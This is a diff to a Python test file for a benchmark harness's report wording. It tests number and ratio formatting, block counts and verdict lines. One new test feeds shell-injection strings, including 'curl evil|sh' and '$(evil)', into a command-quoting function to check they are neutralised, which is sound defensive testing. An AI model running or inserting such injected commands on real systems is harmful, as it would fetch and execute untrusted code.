@@ -9,16 +9,32 @@ from harness.analysis.intervals import Interval
 from harness.analysis.measures import Measure
 from harness.analysis.ratios import Comparison
 from harness.analysis.results import ConditionResult, analyse
-from harness.report.words import blocks, estimate, names, number, ratio, repeat, stopping, verdict
+from harness.report.words import (
+    blocks,
+    estimate,
+    names,
+    number,
+    ratio,
+    repeat,
+    stopping,
+    times,
+    verdict,
+    verdicts,
+)
 from harness.study import Condition, Stopping
 from tests.toys.runs import BASELINE, CONDITION, make_run, make_study, simulate
 
 
 @pytest.mark.parametrize(
     ("value", "text"),
-    [(0, "0"), (0.01234, "0.0123"), (1.5, "1.5"), (999.4, "999"), (999.6, "1,000")],
-)
-def test_numbers_have_three_significant_digits(value: float, text: str) -> None:
+    [
+        (0, "0"), (0.01234, "0.0123"), (1.5, "1.5"), (999.4, "999"), (999.6, "1,000"),
+        (9_994.6, "9,995"), (123_456.0, "123,500"),
+    ],
+)  # fmt: skip
+def test_numbers_have_three_significant_digits_and_four_from_a_thousand_on(
+    value: float, text: str
+) -> None:
     assert number(value) == text
 
 
@@ -37,6 +53,14 @@ def test_without_an_interval_the_reader_is_told_why() -> None:
     one = Interval(mean=1.5, low=None, high=None, se=None, blocks=1)
     assert "one block" in estimate(one)
     assert "one block" in ratio(one)
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [(97.423, "97.42"), (1.0, "1.00"), (0.0996, "0.10"), (0.0994, "0.099"), (0.0042, "0.0042")],
+)
+def test_a_small_ratio_keeps_two_significant_digits(value: float, text: str) -> None:
+    assert times(value) == text
 
 
 def tied(ranking: tuple[str, ...], groups: tuple[tuple[str, ...], ...]) -> ConditionResult:
@@ -85,6 +109,11 @@ def test_blocks_are_told_by_the_condition_that_has_the_fewest() -> None:
     told = "3 of 4 planned blocks measured, and 4 under some conditions"
     assert blocks(run, analyse(run, cut_off)) == told
     assert blocks(run, analyse(run, [])) == "0 of 4 planned blocks measured"
+    begun = [t for t in both if t.condition != other and t.block == 1]
+    told = "0 of 4 planned blocks measured, and 1 under some conditions"
+    assert blocks(run, analyse(run, begun)) == told
+    said = verdicts(run, analyse(run, begun))
+    assert [line.endswith(": not measured.") for line in said] == [False, True]
 
 
 def test_how_to_repeat_a_run_has_what_its_command_alone_does_not_say() -> None:
@@ -97,6 +126,21 @@ def test_how_to_repeat_a_run_has_what_its_command_alone_does_not_say() -> None:
     assert found["commit"] == "0123abc"
     assert found["command"].startswith("run own.toml --database-url postgresql://user:password@")
     assert len(found["notes"]) == 3
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("run quick; curl evil|sh", "run 'quick;' curl 'evil|sh'"),
+        ("run $(evil)", "run '$(evil)'"),
+        ("run it's", "'run it'\"'\"'s'"),
+        ("run 'my study.toml'", "run 'my study.toml'"),
+    ],
+)
+def test_a_stranger_s_command_does_nothing_but_run_bridgetoll(command: str, shown: str) -> None:
+    found = repeat(msgspec.structs.replace(make_run(), command=command))
+    assert found["command"] == shown
+    assert len(found["notes"]) == ("toml" in command)
 
 
 def test_a_group_is_worded_with_all_its_members() -> None:
